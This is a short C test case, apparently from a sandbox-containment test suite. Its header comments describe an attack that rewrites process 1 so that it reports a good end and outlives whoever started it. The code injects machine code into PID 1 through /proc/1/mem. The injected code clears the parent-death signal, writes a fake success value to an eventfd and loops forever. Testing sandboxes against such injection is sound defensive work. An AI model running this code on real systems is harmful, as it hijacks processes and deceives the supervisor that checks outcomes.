// attack: rewrites process 1, so that it tells of a good end, outlives whoever started it and goes on
// expect: memory
// within: 4s
// limits: wall=8s
static int descriptor(void) {
  char name[64], target[64];
  for (int fd = 3; fd < 64; fd++) {
    memset(target, 0, sizeof target);
    snprintf(name, sizeof name, "/proc/1/fd/%d", fd);
    if (readlink(name, target, sizeof target - 1) > 0 && strstr(target, "eventfd")) return fd;
  }
  return -1;
}

int main(void) {
#ifdef __x86_64__
  unsigned char code[] = {
      0xB8, 157, 0, 0, 0, 0xBF, 1, 0, 0, 0, 0x31, 0xF6, 0x0F, 0x05,           // prctl(PR_SET_PDEATHSIG, 0)
      0x6A, 1, 0xB8, 1, 0, 0, 0, 0xBF, 0, 0, 0, 0, 0x48, 0x89, 0xE6,          // write(fd, {1}, 8)
      0xBA, 8, 0, 0, 0, 0x0F, 0x05,
      0xB8, 34, 0, 0, 0, 0x0F, 0x05, 0xEB, 0xF7};                             // for (;;) pause()
  int fd = descriptor();
  FILE *state = fopen("/proc/1/syscall", "r");
  long pc = 0;
  if (fd < 0 || !state || fscanf(state, "%*s %*s %*s %*s %*s %*s %*s %*s %lx", &pc) != 1) {
    blocked("process 1 does not tell where it is", fd);
    return 0;
  }
  code[22] = (unsigned char)fd;
  int memory = open("/proc/1/mem", O_RDWR);
  if (memory < 0 || pwrite(memory, code, sizeof code, pc) != sizeof code) {
    blocked("process 1 is not to be written", errno);
    return 0;
  }
  say("rewrote process 1 at", "", pc);
#endif
  return 7;
}
